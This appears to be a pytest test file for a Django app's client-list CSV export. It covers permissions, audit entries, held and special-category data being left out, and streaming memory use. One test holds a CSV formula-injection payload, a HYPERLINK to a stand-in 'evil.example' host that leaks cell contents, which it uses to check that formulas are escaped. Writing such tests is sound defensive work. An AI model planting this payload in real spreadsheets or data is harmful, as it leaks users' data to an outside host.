"""A list of clients as a file: what is in it, what never is, and what is left of its having been taken."""

import csv
import gc
import io
import tracemalloc

import pytest

from portico.desk import list_export
from portico.fields import actions as fields
from portico.journal.models import Entry
from portico.people.models import Hold, Member, Person, Reason
from portico.people.permissions import StaffRole
from tests import factories
from tests.desk.conftest import account
from tests.factories.people import NOW
from tests.fields.conftest import answer, spec

pytestmark = pytest.mark.django_db
EXPORT = "/desk/clients/export/"


def take(browser, query: str = "", reason: str = "Letters about the move; deleted in May.") -> list[dict[str, str]]:
    answered = browser.post(EXPORT, {"list": query, "reason": reason})
    assert answered.status_code == 200
    assert answered.streaming
    assert answered["Content-Type"] == "text/csv; charset=utf-8"
    assert answered["Content-Disposition"] == 'attachment; filename="clients.csv"'
    assert "no-store" in answered["Cache-Control"]
    return list(csv.DictReader(io.StringIO(b"".join(answered.streaming_content).decode("utf-8-sig"))))


def test_the_file_has_the_filters_and_the_columns_of_the_page(as_staff, ada, bob) -> None:
    browser = as_staff(StaffRole.PRIVACY)
    assert {row["E-mail"] for row in take(browser)} == {ada.email, bob.email}
    browser.post("/desk/clients/columns/", {"column": ["city", "status", "created", "id"]})
    (row,) = take(browser, "country=GB")
    assert row == {
        "Name": "Ada Lovelace",
        "City": "London",
        "Status": "active",
        "Created": "2026-03-02",
        "Public id": str(account(ada).pk),
    }


def test_a_search_can_be_taken_out_and_one_that_is_forgotten_is_not_everybody(as_staff, ada, bob) -> None:
    browser = as_staff(StaffRole.OWNER)
    query = browser.post("/desk/clients/", {"q": "Lovelace"})["Location"].partition("?")[2]
    assert "Lovelace" in browser.get(f"{EXPORT}?{query}").content.decode()
    assert [row["E-mail"] for row in take(browser, query)] == [ada.email]
    for other in (as_staff(StaffRole.OWNER), browser):
        forgotten = other.post(EXPORT, {"list": query if other is not browser else "s=unknown", "reason": "Why not."})
        assert forgotten.status_code == 422
        assert ada.email not in forgotten.content.decode()


def test_taking_a_list_leaves_a_line_and_the_reason_stands_in_a_row_of_its_own(as_staff, ada) -> None:
    browser = as_staff(StaffRole.PRIVACY)
    Entry.objects.all().delete()
    take(browser, "country=GB&status=active", "The regulator asked.")
    reason, line = Reason.objects.get(), Entry.objects.get()
    assert (reason.words, reason.kind) == ("The regulator asked.", "clients.exported")
    assert reason.by == line.actor
    assert (line.verb, line.object_type, line.object_id) == ("clients.exported", "people.Reason", str(reason.pk))
    assert line.detail == "status,country"
    assert "regulator" not in str(vars(line))
    assert "GB" not in str(vars(line))


@pytest.mark.parametrize("reason", ["", "   ", "x" * 501, "\x00"])
def test_nothing_leaves_without_a_reason(as_staff, ada, reason: str) -> None:
    answered = as_staff(StaffRole.OWNER).post(EXPORT, {"reason": reason, "list": ""})
    assert answered.status_code == 422
    assert ada.email not in answered.content.decode()
    assert not Reason.objects.exists()
    assert not Entry.objects.filter(verb="clients.exported").exists()


def test_looking_at_the_question_takes_nothing(as_staff, ada) -> None:
    page = as_staff(StaffRole.OWNER).get(f"{EXPORT}?country=GB&status=active").content.decode()
    assert "Country: United Kingdom" in page
    assert "Status: active" in page
    assert ada.email not in page
    assert not Entry.objects.filter(verb="clients.exported").exists()


@pytest.mark.parametrize("role", [StaffRole.SUPPORT, StaffRole.BILLING])
def test_a_role_that_may_not_gets_nothing_and_sees_no_way(as_staff, ada, role) -> None:
    browser = as_staff(role)
    assert browser.post(EXPORT, {"reason": "I want it.", "list": ""}).status_code == 403
    assert EXPORT not in browser.get("/desk/clients/").content.decode()


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", " ="])
def test_nothing_in_it_is_a_formula(as_staff, ada, begin: str) -> None:
    evil = f'{begin}HYPERLINK("https://evil.example/?"&A1,"open")'
    Person.objects.filter(pk=ada.pk).update(name=evil)
    (row,) = take(as_staff(StaffRole.OWNER))
    assert row["Name"] == f"'{evil}"


def test_quotes_commas_and_lines_stay_in_their_cell(as_staff, ada) -> None:
    Person.objects.filter(pk=ada.pk).update(name='Ada "the Countess", née Byron\nof London')
    (row,) = take(as_staff(StaffRole.OWNER))
    assert row["Name"] == 'Ada "the Countess", née Byron\nof London'
    assert row["E-mail"] == ada.email


@pytest.mark.parametrize("kind", [Hold.Kind.ERASING, Hold.Kind.COOLING_OFF, Hold.Kind.RESTRICTED])
@pytest.mark.parametrize("on", ["client", "person"])
def test_whose_data_may_not_leave_is_left_out(as_staff, ada, bob, kind: str, on: str) -> None:
    Hold.objects.create(kind=kind, since=NOW, **({"client": account(ada)} if on == "client" else {"person": ada}))
    assert [row["E-mail"] for row in take(as_staff(StaffRole.OWNER))] == [bob.email]
    assert take(as_staff(StaffRole.OWNER), f"status={kind}") == []


def test_who_is_suspended_is_in_it(as_staff, ada, bob) -> None:
    Hold.objects.create(kind=Hold.Kind.SUSPENDED, since=NOW, client=account(ada))
    (row,) = take(as_staff(StaffRole.OWNER), "status=suspended")
    assert (row["E-mail"], row["Status"]) == (ada.email, "suspended")


def test_special_categories_are_never_in_it(as_staff, ada) -> None:
    special = {"category": "health", "condition": "9(2)(a)", "statements": {"en": "You said yes."}}
    answer(ada, fields.define(spec=spec("illness", **special), at=NOW), "a cold")
    answer(ada, fields.define(spec=spec("nick"), at=NOW), "Countess")
    browser = as_staff(StaffRole.OWNER)
    browser.post("/desk/clients/columns/", {"column": ["field:illness", "field:nick"]})
    (row,) = take(browser)
    assert row == {"Name": "Ada Lovelace", "Your nick": "Countess"}


def test_every_client_is_in_it_once_however_few_are_read_at_a_time(as_staff, ada, monkeypatch) -> None:
    for number in range(20):
        factories.client(owner=factories.person(email=f"p{number}@many.example"))
    factories.member(client=account(ada), who=factories.person(), role=Member.Role.BILLING)
    monkeypatch.setattr(list_export, "AT_ONCE", 3)
    rows = [row["E-mail"] for row in take(as_staff(StaffRole.OWNER))]
    assert len(rows) == len(set(rows)) == 21


def test_memory_does_not_grow_with_the_list(as_staff, monkeypatch) -> None:
    monkeypatch.setattr(list_export, "AT_ONCE", 10)
    browser, peaks = as_staff(StaffRole.OWNER), []
    for more in (200, 600):
        for _client in range(more):
            factories.client()
        answered = browser.post(EXPORT, {"list": "", "reason": "To see."})
        tracemalloc.start()
        lines = 0
        for lines, _line in enumerate(answered.streaming_content, start=1):
            if lines % 50 == 0:
                gc.collect()  # a client and its people name each other: what is no longer held goes when Python looks for it
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert lines == 801
    assert peaks[1] < peaks[0] * 1.5
